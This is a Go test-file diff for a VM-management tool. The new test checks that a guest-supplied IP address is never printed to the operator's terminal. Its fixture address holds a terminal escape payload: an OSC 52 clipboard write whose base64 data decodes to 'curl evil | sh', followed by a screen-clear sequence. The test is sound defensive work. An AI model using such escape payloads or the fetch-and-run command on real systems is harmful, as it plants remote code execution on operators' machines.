@@ -252,3 +252,49 @@ func TestCloudInitWaitsForTheVMAgent(t *testing.T) {
 		t.Error("the box was not stopped")
 	}
 }
+
+// A VM's state comes from the incus-agent inside it: its addresses are text the guest
+// wrote, passed through by incusd. A hostile root in the VM answering an address with a
+// terminal escape in it (OSC 52: write the operator's clipboard) must not reach the
+// operator's terminal through box list or box info: box list shows the lease (the
+// host's record) instead, box info no address.
+func TestVMAgentAddressIsNotPrinted(t *testing.T) {
+	isolate(t)
+	evil := "10.88.0.9\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J"
+	inst := vmInstance("vmbox", nil)
+	inst["status"], inst["status_code"] = "Running", 103
+	inst["state"] = map[string]any{"status": "Running", "status_code": 103, "network": map[string]any{
+		"eth0": map[string]any{"addresses": []map[string]string{{"family": "inet", "address": evil, "netmask": "24", "scope": "global"}}}}}
+	startFakeIncusd(t, func(method, path string, _ []byte) (int, any) {
+		switch {
+		case method == "GET" && path == "/1.0/instances":
+			return 200, []any{inst}
+		case method == "GET" && path == "/1.0/instances/vmbox":
+			return 200, inst
+		case method == "GET" && path == "/1.0/instances/vmbox/state":
+			return 200, inst["state"]
+		case method == "GET" && path == "/1.0/instances/vmbox/snapshots":
+			return 200, []any{}
+		case method == "GET" && path == "/1.0/profiles/box-net":
+			return 200, map[string]any{"name": "box-net", "devices": map[string]any{"eth0": map[string]string{"type": "nic", "network": "boxnet"}}}
+		case method == "GET" && path == "/1.0/networks/boxnet/leases":
+			return 200, []map[string]string{{"hostname": "vmbox", "address": "10.88.0.42", "hwaddr": "00:16:3e:aa:bb:cc", "type": "static"}}
+		}
+		return 404, nil
+	})
+	for _, args := range [][]string{{"list"}, {"info", "vmbox"}} {
+		var o, e bytes.Buffer
+		code := Main(args, strings.NewReader(""), &o, &e)
+		if code != 0 {
+			t.Errorf("box %v: exit %d: %s", args, code, e.String())
+		}
+		if strings.ContainsAny(o.String()+e.String(), "\x1b\x07") {
+			t.Errorf("box %v printed the guest's escape sequence: %q", args, o.String())
+		}
+		// box list takes a running box's missing address from the leases; box info is
+		// one request and shows none.
+		if want := map[string]string{"list": "10.88.0.42", "info": "ipv4:      -"}[args[0]]; !strings.Contains(o.String(), want) {
+			t.Errorf("box %v: want %q in %q", args, want, o.String())
+		}
+	}
+}
